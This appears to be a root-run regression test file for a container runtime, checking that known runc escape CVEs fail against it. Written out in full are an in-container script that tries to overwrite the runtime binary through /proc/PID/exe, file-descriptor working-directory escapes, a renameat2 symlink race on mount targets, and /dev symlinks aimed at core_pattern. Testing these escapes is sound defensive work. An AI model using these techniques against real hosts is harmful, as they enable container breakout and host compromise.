#!/usr/bin/env python3
"""Ways out of containers that other runtimes had, tried on ours (c8s-pod runc). Needs root."""
import ctypes
import hashlib
import os
import shutil
import signal
import subprocess
import sys
import threading

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import tap  # noqa: E402
from containers_oci_test import ALL_CAPS, BUSYBOX, FOLDER, POD, Box, mounts_outside  # noqa: E402


def digest(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def test_overwrite_of_the_runtime(t):
    """CVE-2019-5736: who gets into the container is held open by /proc/PID/exe, and written to later."""
    victim = os.path.join(FOLDER, "c8s-pod")
    shutil.copy(POD, victim)
    before = digest(victim)
    attack = """
    while :; do for p in /proc/[0-9]*; do case $p in /proc/1|/proc/$$) continue;; esac
      ( exec 9<$p/exe && case $(readlink /proc/self/fd/9) in */busybox) exit;; esac
        echo caught >> /caught
        for i in 1 2 3 4 5 6 7 8; do (echo broken > /proc/self/fd/9) 2>> /errors && echo written >> /written; usleep 2000; done ) 2>/dev/null
    done; done"""
    with Box(attack, runtime=[victim, "runc"], capabilities={k: ALL_CAPS for k in ("bounding", "effective", "permitted")}, noNewPrivileges=False) as b:
        with open(os.path.join(b.rootfs, "bin/evil"), "w") as f:
            f.write("#!/proc/self/exe\n")
        os.chmod(os.path.join(b.rootfs, "bin/evil"), 0o755)
        b.create()
        try:
            for _ in range(15):
                b.exec(["/bin/evil"])
                b.exec(["true"])
        finally:
            b.runtime = [POD, "runc"]  # the other one may be broken
        caught = os.path.exists(os.path.join(b.rootfs, "caught"))
        errors = open(os.path.join(b.rootfs, "errors")).read() if os.path.exists(os.path.join(b.rootfs, "errors")) else ""
        t.check("the runtime's file is as it was", digest(victim) == before and not os.path.exists(os.path.join(b.rootfs, "written")), errors)
        if caught:
            t.check("who tried met a read-only file system", "Read-only file system" in errors, errors[:500])
        else:
            t.skip("who tried met a read-only file system", "the attacker never saw us")


def test_leaked_folder(t):
    """CVE-2024-21626: a working directory by a descriptor that the runtime left open."""
    with Box("ls; pwd") as b:
        bad = []
        for fd in range(3, 24):
            b.config["process"]["cwd"] = f"/proc/self/fd/{fd}"
            r = b.run()
            if r[0] == 0:
                bad.append((fd, r))
        t.check("run: no descriptor is a way out", not bad, bad)
    with Box("exec sleep 1000") as b:
        b.create()
        bad = [fd for fd in range(3, 24) if b.exec("--cwd", f"/proc/self/fd/{fd}", "true")[0] == 0]
        t.check("exec: no descriptor is a way out", not bad, bad)
    outside = os.path.join(FOLDER, "program")
    with open(outside, "w") as f:
        f.write("#!/bin/sh\necho outside\n")
    os.chmod(outside, 0o755)
    with Box("exec sleep 1000") as b:
        b.create()
        up = "../" * 12
        bad = [(fd, how) for fd in range(3, 24) for how in (["--"], ["--cwd", f"/proc/self/fd/{fd}"])
               if "outside" in b.exec(*how, [f"/proc/self/fd/{fd}/{up}{outside}"])[1]]
        t.check("exec: nor for a program", not bad, bad)


def test_who_enters(t):
    """CVE-2016-9962: a process on its way in shows its descriptors, its root and its memory to those inside."""
    spy = """
    while :; do for p in /proc/[0-9]*; do case $p in /proc/1|/proc/$$) continue;; esac
      case $(readlink $p/exe) in */busybox|"") continue;; esac
      echo seen >> /seen
      for f in $p/root $p/cwd $p/fd/*; do x=$(readlink $f) && echo "$f $x" >> /links; done
      cat $p/environ >> /environ
    done 2>/dev/null; done"""
    caps = {k: [c for c in ALL_CAPS if c != "CAP_SYS_PTRACE"] for k in ("bounding", "effective", "permitted")}
    with Box(spy, capabilities=caps) as b:
        b.create()
        for _ in range(40):
            b.exec(["true"], env={**os.environ, "SECRET": "of-the-host"})
        links = open(os.path.join(b.rootfs, "links")).read() if os.path.exists(os.path.join(b.rootfs, "links")) else ""
        said = open(os.path.join(b.rootfs, "environ")).read() if os.path.exists(os.path.join(b.rootfs, "environ")) else ""
        t.check("who enters shows nothing of outside", FOLDER not in links and "of-the-host" not in said, (links[:500], said[:200]))


def test_links_at_targets(t):
    """CVE-2021-30465: a link where something is to be mounted, and one that changes while we look."""
    outside = os.path.join(FOLDER, "outside")
    os.makedirs(outside, exist_ok=True)
    volume = os.path.join(FOLDER, "links")
    os.makedirs(volume, exist_ok=True)
    before = mounts_outside()
    with Box("mount | grep -c marker; ls -d /data/inner/marker /" + "; ls " + outside + " 2>/dev/null") as b:
        os.rmdir(os.path.join(b.rootfs, "data"))
        os.symlink("../../../../../.." + outside, os.path.join(b.rootfs, "data"))
        b.config["mounts"].append({"destination": "/data/inner", "type": "tmpfs", "source": "marker"})
        r = b.run()
        t.check("a link out stays inside", os.listdir(outside) == [] and mounts_outside() == before and r[1].startswith("1\n"), (r, os.listdir(outside)))
    libc = ctypes.CDLL(None, use_errno=True)
    stop = threading.Event()
    with Box("cat /vol/x/secret 2>/dev/null; ls /vol/x") as b:
        os.makedirs(os.path.join(volume, "folder", "x"), exist_ok=True)
        os.symlink("/", os.path.join(volume, "link"))
        with open(os.path.join(outside, "secret"), "w") as f:
            f.write("secret\n")
        os.makedirs(os.path.join(outside, "x"), exist_ok=True)
        b.config["mounts"] += [{"destination": "/vol", "type": "bind", "source": volume, "options": ["bind"]},
                               {"destination": "/vol/folder/x", "type": "tmpfs", "source": "tmpfs"}]
        a, z = os.path.join(volume, "folder").encode(), os.path.join(volume, "link").encode()

        def swap():
            while not stop.is_set():
                libc.renameat2(-100, a, -100, z, 2)
        racer = threading.Thread(target=swap)
        racer.start()
        results = [b.run() for _ in range(20)]
        stop.set()
        racer.join()
        t.check("a link that comes and goes leads nowhere", mounts_outside() == before and not any("secret" in r[1] for r in results), results[:3])
        t.check("and the root of the host has no new folder", not os.path.exists("/x"))
    for folder in (outside, volume):
        shutil.rmtree(folder)


def test_replaced_devices(t):
    """CVE-2025-31133, 2025-52565, 2025-52881: /dev/null, /dev/console and /proc that are not what they seem."""
    with open("/proc/sys/kernel/core_pattern") as f:
        before = f.read()
    with Box("stat -c %t,%T /proc/keys; cat /proc/sys/kernel/core_pattern >/dev/null") as b:
        b.config["mounts"] = [m for m in b.config["mounts"] if not m["destination"].startswith("/dev")]
        os.symlink("/proc/sys/kernel/core_pattern", os.path.join(b.rootfs, "dev/null"))
        r = b.run()
        t.check("/dev/null of the image is a link: refused", r[0] == 1 and "device /dev/null: something else is there" in r[2], r)
        os.unlink(os.path.join(b.rootfs, "dev/null"))
        os.mkfifo(os.path.join(b.rootfs, "dev/null"))
        t.check("/dev/null of the image is a pipe: refused", "something else is there" in b.run()[2])
    with Box("echo x > /dev/console", terminal=True) as b:
        b.config["mounts"] = [m for m in b.config["mounts"] if m["destination"] != "/dev"]
        os.symlink("/proc/sys/kernel/core_pattern", os.path.join(b.rootfs, "dev/console"))
        r = b.run()
        t.check("/dev/console of the image is a link: refused", r[0] == 1 and "/dev/console is a link or a folder" in r[2], r)
    with Box("true", terminal=True) as b:
        b.config["mounts"] = [m for m in b.config["mounts"] if m["destination"] not in ("/dev/pts", "/dev")]
        os.makedirs(os.path.join(b.rootfs, "dev/pts"))
        os.symlink("/proc/sys/kernel/core_pattern", os.path.join(b.rootfs, "dev/pts/ptmx"))
        r = b.run()
        t.check("a terminal that is none: refused", r[0] == 1 and "is no pseudoterminal" in r[2], r)
    with Box("true") as b:
        os.rmdir(os.path.join(b.rootfs, "proc"))
        os.makedirs(os.path.join(b.rootfs, "fake"))
        os.symlink("fake", os.path.join(b.rootfs, "proc"))
        r = b.run()
        t.check("/proc of the image is a link: refused", r[0] == 1 and 'filesystem "proc" must be mounted on ordinary directory' in r[2], r)
    with Box("true") as b:
        fake = os.path.join(b.rootfs, "fake")
        os.makedirs(os.path.join(fake, "sys/net/ipv4"))
        b.config["linux"]["sysctl"] = {"net.ipv4.ip_unprivileged_port_start": "77"}
        b.config["mounts"] = [{"destination": "/proc", "type": "bind", "source": fake, "options": ["bind"]}] + b.config["mounts"][1:]
        b.config["mounts"].append({"destination": "/true", "type": "proc", "source": "proc"})
        b.config["process"]["args"] = ["cat", "/true/sys/net/ipv4/ip_unprivileged_port_start"]
        target = os.path.join(fake, "sys/net/ipv4/ip_unprivileged_port_start")
        open(target, "w").close()
        r = b.run()
        t.check("a sysctl is not written to a false /proc, but to the true one", open(target).read() == "" and r[1] == "77\n", r)
    with open("/proc/sys/kernel/core_pattern") as f:
        t.check("core_pattern of the host is as it was", f.read() == before)


def test_devices_of_the_host(t):
    """A /dev of the host in the container, whatever its path is spelled like: nothing in it is replaced."""
    for spelled in ("/dev", "/dev/", "//dev/."):
        fake = os.path.join(FOLDER, "fake-dev")
        os.makedirs(fake)
        subprocess.run(["mknod", os.path.join(fake, "null"), "c", "1", "3"], check=True)
        with open(os.path.join(fake, "ptmx"), "w") as f:
            f.write("of the host")
        with Box("cat /dev/ptmx") as b:
            b.config["mounts"] = [m for m in b.config["mounts"] if not m["destination"].startswith("/dev")]
            b.config["mounts"].append({"destination": spelled, "type": "bind", "source": fake, "options": ["bind"]})
            r = b.run()
            t.check(f"{spelled} of the host stays as it is", r[1] == "of the host" and sorted(os.listdir(fake)) == ["null", "ptmx"], (r, os.listdir(fake)))
        shutil.rmtree(fake)


if __name__ == "__main__":
    if os.geteuid() != 0 or not os.path.exists(BUSYBOX):
        print("1..0 # SKIP containers need root and a static busybox")
        sys.exit(0)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))
    try:
        tap.run([test_overwrite_of_the_runtime, test_leaked_folder, test_who_enters, test_links_at_targets, test_replaced_devices, test_devices_of_the_host])
    finally:
        shutil.rmtree(FOLDER, ignore_errors=True)
